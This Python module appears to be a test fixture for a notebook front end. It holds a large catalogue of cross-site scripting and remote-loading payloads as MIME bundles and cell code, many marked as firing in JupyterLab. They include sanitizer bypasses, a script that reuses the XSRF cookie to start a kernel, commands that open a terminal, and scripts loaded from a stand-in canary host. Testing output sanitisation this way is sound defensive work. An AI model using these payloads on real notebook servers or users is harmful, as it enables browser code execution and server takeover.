r"""What a hostile notebook displays to run code in the browser or to make it load something: one small output each.

`PWN` stands for a call that tells the test that code ran, `SPELT` for the same with entities for its parentheses, `CANARY` for an address of another host, `LOCAL` for one of the
Jupyter server, `NUMBER` for the attack's number. An attack of which `fires` is true is known to succeed in JupyterLab when outputs are trusted, which shows
that the test would see it; the others aim at other versions and front ends, or are variants that this browser withstands.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class Attack:
    """A MIME bundle with its metadata, or a cell's code."""

    name: str
    bundle: Mapping[str, Any] = field(default_factory=dict)
    code: str = ""
    metadata: Mapping[str, Any] = field(default_factory=dict)
    fires: bool = False
    leaves: bool = False
    """Whether it would take the page away or break it, so that nothing else could be seen."""
    fails: bool = False
    """Whether its cell ends with an error."""

    def filled(self, number: int) -> Attack:
        """With the stand-ins replaced by what the test looks for."""
        names = {
            "PWN": f"pwned({number})",
            "CANARY": f"http://canary.invalid/{number}",
            "LOCAL": f"canary-{number}.png",
            "NUMBER": str(number),
        }

        def fill(value: Any) -> Any:
            if isinstance(value, str):
                for stand_in, text in names.items():
                    value = value.replace(stand_in, text)
                return value
            if isinstance(value, Mapping):
                return {fill(key): fill(each) for key, each in value.items()}
            return [fill(each) for each in value] if isinstance(value, list) else value

        return Attack(
            self.name, fill(self.bundle), fill(self.code), fill(self.metadata), self.fires, self.leaves, self.fails
        )

    def cell(self) -> str:
        """Code that displays it."""
        return self.code or f"display({dict(self.bundle)!r}, raw=True, metadata={dict(self.metadata)!r})"

    @property
    def needs_a_cell(self) -> bool:
        """Whether no other code can stand in its cell."""
        return bool(self.code)


def _html(name: str, text: str, *, fires: bool = False, leaves: bool = False) -> Attack:
    return Attack(f"html: {name}", {"text/html": text, "text/plain": "-"}, fires=fires, leaves=leaves)


def _svg(name: str, text: str) -> Attack:
    return Attack(f"svg: {name}", {"image/svg+xml": text, "text/plain": "-"})


def _markdown(name: str, text: str, *, fires: bool = False) -> Attack:
    return Attack(f"markdown: {name}", {"text/markdown": text, "text/plain": "-"}, fires=fires)


def _latex(name: str, text: str, *, fires: bool = False) -> Attack:
    return Attack(f"latex: {name}", {"text/latex": text, "text/plain": "-"}, fires=fires)


_START_KERNEL = """
const xsrf = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
fetch('/api/kernels', {method: 'POST', headers: {'X-XSRFToken': xsrf}, body: '{"name": "monty"}'}).then(() => PWN)"""

HTML = (
    _html("a script", "<script>PWN</script>", fires=True),
    _html("a script that starts a kernel", f"<script>{_START_KERNEL}</script>", fires=True),
    _html("a script from elsewhere", '<script src="CANARY"></script>', fires=True),
    _html("a script in disguise", "<ScRiPt/x=1>PWN</sCrIpT >", fires=True),
    _html("a script that is not closed", "<script>PWN", fires=True),
    _html("an image that fails", "<img src=LOCAL onerror=PWN>", fires=True),
    _html("an image that loads", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="PWN">', fires=True),
    _html("slashes for spaces", "<img/src=LOCAL/onerror=PWN>", fires=True),
    _html("control characters for spaces", "<img\x0csrc=LOCAL\x0conerror=PWN>", fires=True),
    _html("NUL in names", "<im\x00g src=LOCAL on\x00error=PWN><img src=LOCAL one\x00rror=PWN>", fires=True),
    _html("an svg that loads", "<svg onload=PWN></svg>", fires=True),
    _html("a script in svg", "<svg><script>PWN</script></svg>", fires=True),
    _html("a script in svg by address", '<svg><script href="data:text/javascript,PWN"></script></svg>', fires=True),
    _html("details that open", "<details open ontoggle=PWN>x</details>", fires=True),
    _html("focus", "<input autofocus onfocus=PWN>", fires=True),
    _html("focus of anything", "<b tabindex=1 autofocus onfocus=PWN>x</b>", fires=True),
    _html("a source that fails", "<video><source onerror=PWN src=LOCAL></video>", fires=True),
    _html("audio that fails", "<audio src=LOCAL onerror=PWN></audio>", fires=True),
    _html("a frame of javascript", '<iframe src="javascript:parent.PWN"></iframe>', fires=True),
    _html("a frame with its document", '<iframe srcdoc="<script>parent.PWN</script>"></iframe>', fires=True),
    _html("a frame from elsewhere", "<iframe src=CANARY></iframe>", fires=True),
    _html("a frame of data", '<iframe src="data:text/html,<img src=CANARY>"></iframe>', fires=True),
    _html("an object", "<object data=CANARY></object>", fires=True),
    _html("an embedded thing", "<embed src=CANARY>", fires=True),
    _html("an animation", "<style>@keyframes k{from{left:0}}</style><b style='animation:k 1s' onanimationstart=PWN>x</b>", fires=True),
    _html("a transition's end", "<b style='color:red;transition:color 1s' ontransitionend=PWN tabindex=1 onmouseover=PWN>x</b>", fires=True),
    _html("a link to javascript", '<a href="javascript:PWN">x</a>', fires=True),
    _html("a link with a tab in its scheme", '<a href="java&#9;script:PWN">x</a>'),
    _html("a link with named entities", '<a href="java&Tab;script&colon;PWN">x</a>'),
    _html("a link with control characters", '<a href=" &#1; javascript:PWN">x</a>'),
    _html("a link in an svg", '<svg><a xlink:href="javascript:PWN"><text y="9">x</text></a></svg>', fires=True),
    _html("a form", '<form action="javascript:PWN"><button>x</button></form>', fires=True),
    _html("a form's button", '<form><button formaction="javascript:PWN">x</button></form>', fires=True),
    _html("a button", "<button onclick=PWN>x</button>", fires=True),
    _html("a command of JupyterLab", '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>', fires=True),
    _html("a command on anything", '<b data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</b>', fires=True),
    _html("a mutation by math", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=LOCAL onerror=PWN&gt;'>"),
    _html("a mutation by math's annotation", '<math><annotation-xml encoding="text/html"><style><img src=LOCAL onerror=PWN></style></annotation-xml></math>'),
    _html("a mutation by svg", "<svg></p><style><a title='</style><img src=LOCAL onerror=PWN>'></style></svg>", fires=True),
    _html("a mutation by a form", "<form><math><mtext></form><form><mglyph><style></math><img src=LOCAL onerror=PWN>"),
    _html("a mutation by noscript", "<noscript><p title='</noscript><img src=LOCAL onerror=PWN>'>", fires=True),
    _html("a mutation by xmp", "<xmp><p title='</xmp><img src=LOCAL onerror=PWN>'>", fires=True),
    _html("a mutation by textarea", "<textarea><p title='</textarea><img src=LOCAL onerror=PWN>'>", fires=True),
    _html("a comment that ends early", "<!--><img src=LOCAL onerror=PWN>-->", fires=True),
    _html("a comment that ends with !", "<!-- --!><img src=LOCAL onerror=PWN> -->", fires=True),
    _html("a bogus comment", "<! foo='><img src=LOCAL onerror=PWN>'><? foo='><img src=LOCAL onerror=PWN>'>", fires=True),
    _html("a bogus end tag", "</ foo='><img src=LOCAL onerror=PWN>'>", fires=True),
    _html("CDATA", "<svg><![CDATA[><img src=LOCAL onerror=PWN>]]></svg><![CDATA[><img src=LOCAL onerror=PWN>]]>", fires=True),
    _html("quotes of the other kind", "<img title='\"><img src=LOCAL onerror=PWN>' alt=\"'><img src=LOCAL onerror=PWN>\">"),
    _html("backquotes", "<img src=`LOCAL` onerror=`PWN` alt=``onerror=PWN>", fires=True),
    _html("the template of a shadow", "<div><template shadowrootmode=open><script>PWN</script><img src=CANARY></template></div>", fires=True),
    _html("a table that throws out its content", "<table><img src=LOCAL onerror=PWN><tr><td>x</table>", fires=True),
    _html("a popover", "<button popovertarget=p id=b>x</button><div popover id=p onbeforetoggle=PWN>x</div>", fires=True),
    _html("content that comes into view", "<b style='content-visibility:auto' oncontentvisibilityautostatechange=PWN>x</b>", fires=True),
    _html("an image from elsewhere", "<img src=CANARY>", fires=True),
    _html("an image without scheme", "<img src=//canary.invalid/x>"),
    _html("an image with backslashes", r"<img src=\\canary.invalid\x>"),
    _html("an image of the server", "<img src=LOCAL>", fires=True),
    _html("an address of the server", '<img src="/api/contents/LOCAL">', fires=True),
    _html("a set of images", '<img srcset="CANARY 1x">', fires=True),
    _html("a picture", '<picture><source srcset="CANARY"><img></picture>', fires=True),
    _html("a poster", "<video poster=CANARY></video>", fires=True),
    _html("a video's track", "<video><track default src=CANARY></video>", fires=True),
    _html("an input that is an image", "<input type=image src=CANARY>", fires=True),
    _html("an attribute for backgrounds", "<table background=CANARY><tr><td background=CANARY>x</table>", fires=True),
    _html("a style with an address", "<b style='background:url(CANARY)'>x</b>", fires=True),
    _html("a style in escapes", r"<b style='background:\75 r\6c(CANARY)'>x</b>", fires=True),
    _html("a style with comments", "<b style='background/**/:/**/url(CANARY)'>x</b>", fires=True),
    _html("a set of images in a style", '<b style=\'background:image-set("CANARY" 1x)\'>x</b>', fires=True),
    _html("images for borders, lists and cursors", "<ul style='list-style:url(CANARY)'><li style='border-image:url(CANARY) 1;cursor:url(CANARY),auto'>x</ul>", fires=True),
    _html("a variable in a style", "<b style='--x:url(CANARY);background:var(--x)'>x</b>", fires=True),
    _html("a style sheet", "<style>@import 'CANARY';</style>", fires=True),
    _html("a style sheet with a font", "<style>@font-face{font-family:f;src:url(CANARY)}b{font-family:f}</style><b>x</b>", fires=True),
    _html("a linked style sheet", "<link rel=stylesheet href=CANARY>", fires=True),
    _html("links ahead", "<link rel=preload as=image href=CANARY><link rel=prefetch href=CANARY><link rel=icon href=CANARY>", fires=True),
    _html("an image in svg", "<svg><image href=CANARY width=9 height=9 /></svg>", fires=True),
    _html("an image in svg, the old way", "<svg><image xlink:href=CANARY width=9 height=9 /></svg>", fires=True),
    _html("a use in svg", "<svg><use href='CANARY#x' /></svg>", fires=True),
    _html("a filter's image in svg", "<svg><filter id=f><feImage href=CANARY /></filter><rect width=9 height=9 filter='url(#f)' /></svg>", fires=True),
    _html("a fill from elsewhere", "<svg><rect width=9 height=9 fill='url(CANARY#x)' mask='url(CANARY#x)' /></svg>", fires=True),
    _html("an animation that begins", "<svg><animate onbegin=PWN attributeName=x dur=1s /></svg>", fires=True),
    _html("an animated link", "<svg><a><animate attributeName=href values='javascript:PWN'/><text y=9>x</text></a></svg>"),
    _html("a set link", "<svg><a id=q><set attributeName=href to='javascript:PWN'/><text y=9>x</text></a></svg>"),
    _html("HTML in svg", "<svg><foreignObject><img src=LOCAL onerror=PWN></foreignObject></svg>", fires=True),
    _html("HTML in an svg's title", "<svg><title><img src=LOCAL onerror=PWN></title><desc><img src=LOCAL onerror=PWN></desc></svg>", fires=True),
    _html("another base", "<base href=http://canary.invalid/><img src=x.png>", leaves=True),
    _html("a refresh", '<meta http-equiv=refresh content="0;url=CANARY">', leaves=True),
    _html("a cover over the page", "<div style='position:fixed;inset:0;z-index:99999;background:#fff8' onmousemove=PWN>x</div>"),
    _html("a cover in a box that moves", "<div style='position:absolute;top:-3000px;left:-3000px;width:9999px;height:9999px;z-index:99999'>x</div>"),
    _html("a cover by a class", "<div class='jp-Dialog'>x</div><div class='lm-Menu jp-Toast'>x</div>"),
    _html("names that clobber", "<form id=jupyter-config-data name=cookie><input name=attributes></form><a id=pwned></a><img name=currentScript>", leaves=True),
    _html("a formula that links", r"$\href{javascript:PWN}{x}$"),
    _html("a formula with a style", r"$\style{background:url(CANARY)}{x}$"),
    _html("a formula in pieces", r"$\hr<wbr>ef{javascript:PWN}{x}$ $\hr<!-- -->ef{javascript:PWN}{x}$ $&#92;href{javascript:PWN}{x}$"),
)  # fmt: skip

SVG = (
    _svg("a script", "<svg xmlns='http://www.w3.org/2000/svg'><script>PWN</script></svg>"),
    _svg("an event", "<svg xmlns='http://www.w3.org/2000/svg' onload='PWN'></svg>"),
    _svg("an image", "<svg xmlns='http://www.w3.org/2000/svg'><image href='CANARY' width='9' height='9'/></svg>"),
    _svg("a style sheet", "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(CANARY);</style><rect/></svg>"),
    _svg("a declared style sheet", "<?xml-stylesheet href='CANARY'?><svg xmlns='http://www.w3.org/2000/svg'></svg>"),
    _svg(
        "an entity",
        "<!DOCTYPE svg [<!ENTITY e SYSTEM 'CANARY'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&e;</text></svg>",
    ),
    _svg("HTML around it", "<img src=LOCAL onerror=PWN><svg></svg><img src=LOCAL onerror=PWN>"),
    _svg(
        "a namespace", "<svg xmlns:h='http://www.w3.org/1999/xhtml'><h:script>PWN</h:script><h:img src='CANARY'/></svg>"
    ),
)

MARKDOWN = (
    _markdown("HTML", "text <img src=LOCAL onerror=PWN> text", fires=True),
    _markdown("a script", "<script>PWN</script>", fires=True),
    _markdown("an image", "![x](CANARY)", fires=True),
    _markdown("an image by reference", "![x][r]\n\n[r]: CANARY", fires=True),
    _markdown("an image by its own name", "![r]\n\n[r]: CANARY 'title'", fires=True),
    _markdown("an image in a link", "[![x](CANARY)](CANARY)", fires=True),
    _markdown("an image of the server", "![x](LOCAL)", fires=True),
    _markdown("a link", "[x](javascript:PWN)", fires=True),
    _markdown("a link in angles", "[x](<javascript:PWN>)", fires=True),
    _markdown("a link by reference", "[x][r]\n\n[r]: javascript:PWN", fires=True),
    _markdown("a link by reference on two lines", "[x\ny]\n\n[x\ny]:\n  javascript:PWN", fires=True),
    _markdown("a link with entities", "[x](java&Tab;script&colon;PWN)"),
    _markdown("a link with escapes", r"[x](javascript\:PWN)", fires=True),
    _markdown("a link in angles alone", "<javascript:PWN>", fires=True),
    _markdown("a link to a document", "[x](data:text/html,<script>PWN</script>)"),
    _markdown("a formula that ends an address", '[x](https://a/$"autofocus="1"tabindex="1"onfocus="PWN"a="$)', fires=True),
    _markdown("a formula that ends a title", '[x](https://a/ \'$"autofocus="1"tabindex="1"onfocus="PWN"a="$\')', fires=True),
    _markdown("a formula in a bare address", 'https://a/$"autofocus="1"tabindex="1"onfocus="PWN"a="$', fires=True),
    _markdown("a formula in a reference", '[x]\n\n[x]: https://a/$"onmouseover="PWN"a="$', fires=True),
    _markdown("a formula between parentheses", '[x](https://a/\\\\("onmouseover="PWN"a="\\\\))', fires=True),
    _markdown("a formula in an environment", '[x](https://a/\\begin{x}"onmouseover="PWN"a="\\end{x})', fires=True),
    _markdown("a formula in an image's name", '![$"onerror="PWN"a="$](LOCAL)', fires=True),
    _markdown("a formula behind a fence", '```$"onmouseover="PWN"a="$\ncode', fires=True),
    _markdown("a formula that links", r"$\href{javascript:PWN}{x}$ and $$\href{javascript:PWN}{x}$$"),
    _markdown("a formula that loads", r"$\style{background:url(CANARY)}{x}$ $\require{CANARY}$"),
    _markdown("a diagram that loads", '```mermaid\nflowchart LR\nA@{ img: "CANARY", label: "x", h: 60, w: 60 }\n```'),
    _markdown("a diagram with HTML", "~~~ mermaid\ngraph TD\nA[\"<img src='CANARY' onerror='PWN'>\"]\n~~~"),
    _markdown("a diagram in escapes", "```mermai\\d\ngraph TD\nA[\"<img src='CANARY'>\"]\n```"),
    _markdown("a diagram in a quotation", "> - ```mermaid\n>   graph TD\n>   A-->B\n>   ```\n\n![x](CANARY)", fires=True),
    _markdown("code that is none", "`a\n\n<img src=LOCAL onerror=PWN> `b`", fires=True),
    _markdown("a fence that is none", "- ```\n\n```\n<img src=LOCAL onerror=PWN>\n```\n"),
    _markdown("a comment", "<!-- --!><img src=LOCAL onerror=PWN> -->", fires=True),
    _markdown("entities for signs", "&lt;img src=LOCAL onerror=PWN&gt; &#60;img src=CANARY&#62; &#33;&#91;x](CANARY)"),
    _markdown("a block of HTML", "<div>\n<img src=LOCAL onerror=PWN>\n</div>", fires=True),
    _markdown("an address in a block of HTML", "<div>\n<https://onfocus=SPELT/tabindex=1/autofocus>\n</div>"),
    _markdown("a mail address in a block of HTML", "<div>\n<mailto:x/onfocus=SPELT/tabindex=1/autofocus>\n</div>"),
    _markdown("a tag with a style", '<span style="background:url(CANARY)">x</span>', fires=True),
    _markdown("a tag that is unfinished", "<img src=LOCAL onerror=PWN\n//", fires=False),
    _markdown("a table's cell", "|a|b|\n|-|-|\n|![x](CANARY)|<img src=LOCAL onerror=PWN>|", fires=True),
    _markdown("placeholders of formulas", '@@0@@ [x](@@0@@) $"onmouseover="PWN"$ `@@0@@`'),
)  # fmt: skip

LATEX = (
    _latex("a link", r"$\href{javascript:PWN}{x}$"),
    _latex("a style", r"$\style{background:url(CANARY)}{x}$"),
    _latex("a class and an id", r"$\class{jp-Dialog}{x}\cssId{pwned}{y}$"),
    _latex("a package", r"$\require{CANARY}\includegraphics{CANARY}$"),
    _latex("another name for it", r"$\let\h\href \h{javascript:PWN}{x} \newcommand{\k}{\href} \k{javascript:PWN}{y}$"),
    _latex("HTML", "<img src=LOCAL onerror=PWN> $<img src=LOCAL onerror=PWN>$"),
)

OTHER = (
    Attack("javascript", {"application/javascript": "PWN", "text/plain": "-"}, fires=True),
    Attack("javascript by its other name", {"text/javascript": "PWN"}, fires=True),
    Attack(
        "a chart with data from elsewhere",
        {"application/vnd.vegalite.v5+json": {"data": {"url": "CANARY"}, "mark": "point", "encoding": {}}},
        fires=True,
    ),
    Attack("a widget", {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "-"}),
    Attack("a diagram", {"text/vnd.mermaid": 'flowchart LR\nA@{ img: "CANARY", h: 60, w: 60 }'}),
    Attack("a PDF", {"application/pdf": "JVBERi0xLjQK"}),
    Attack("geography", {"application/geo+json": {"type": "Point", "coordinates": [0, 0]}}),
    Attack("errors as a type", {"application/vnd.jupyter.stderr": "<img src=LOCAL onerror=PWN>"}),
    Attack("a type that is HTML", {"<img src=LOCAL onerror=PWN>/x": "y"}),
    Attack("a picture that is HTML", {"image/png": 'AAAA" onerror="PWN'}),
    Attack("a picture that is svg", {"image/png": "<svg onload=PWN>", "image/webp": "data:text/html,PWN"}),
    Attack("JSON with HTML", {"application/json": {"<img src=LOCAL onerror=PWN>": ["<script>PWN</script>"]}}),
    Attack("text with HTML", {"text/plain": "<img src=LOCAL onerror=PWN> \x1b[31m<script>PWN</script>\x1b[0m"}),
    Attack("a frame by metadata", {"text/html": "<script>parent.PWN</script><img src=CANARY>"}, metadata={"text/html": {"isolated": True}}, fires=True),
    Attack("a selector by metadata", {"text/html": "<b>x</b>"}, metadata={"text/html": {"fragment": "#x], body"}, "fragment": "*"}),
    Attack("size by metadata", {"image/png": "iVBORw0KGgo="}, metadata={"image/png": {"width": '1" onerror="PWN', "height": "1"}}),
    Attack("an update", code="h = display('first', display_id='attack')\ndisplay({'text/html': '<script>PWN</script>'}, raw=True, display_id='attack')\nfrom IPython.display import update_display\nupdate_display({'text/html': '<img src=CANARY onerror=PWN>'}, raw=True, display_id='attack')", fires=True),
    Attack("a class of its own", code="class A:\n    def _repr_html_(self): return '<img src=CANARY onerror=PWN>'\nA()", fires=True),
    Attack("a bundle of its own", code="class B:\n    def _repr_mimebundle_(self, include=None, exclude=None): return {'application/javascript': 'PWN'}, {'x': 1}\nB()", fires=True),
    Attack("a cell of HTML", code="%%html\n<script>PWN</script>", fires=True),
    Attack("a forged emission", code="__mk_emit({'text/html': '<script>PWN</script>'}, {}, '', None, False)", fires=True),
    Attack("a forged result", code="__mk_bundle_of = lambda v: ({'text/html': '<script>PWN</script>'}, {}, '')\n[1]", fires=True),
    Attack("printed HTML", code="print('<img src=LOCAL onerror=PWN>'); print('\\x1b[31m<script>PWN</script>\\x1b[0m \\x1b]8;;javascript:PWN\\x07x\\x1b]8;;\\x07')"),
    Attack("a page of help", code="def helped():\n    '''<img src=LOCAL onerror=PWN>'''\nhelped?"),
    Attack("a state's label", code="'<img src=LOCAL onerror=PWN>'\n%snapshots"),
    Attack("an error's message", code="raise ValueError('<img src=LOCAL onerror=PWN> \\x1b[31m<script>PWN</script>')", fails=True),
    Attack("an error's source", code="1 / 0 # <img src=LOCAL onerror=PWN>", fails=True),
    Attack("an error's name", code="class E(Exception): pass", fails=True),
)  # fmt: skip

ATTACKS = tuple(attack.filled(number) for number, attack in enumerate((*HTML, *SVG, *MARKDOWN, *LATEX, *OTHER)))
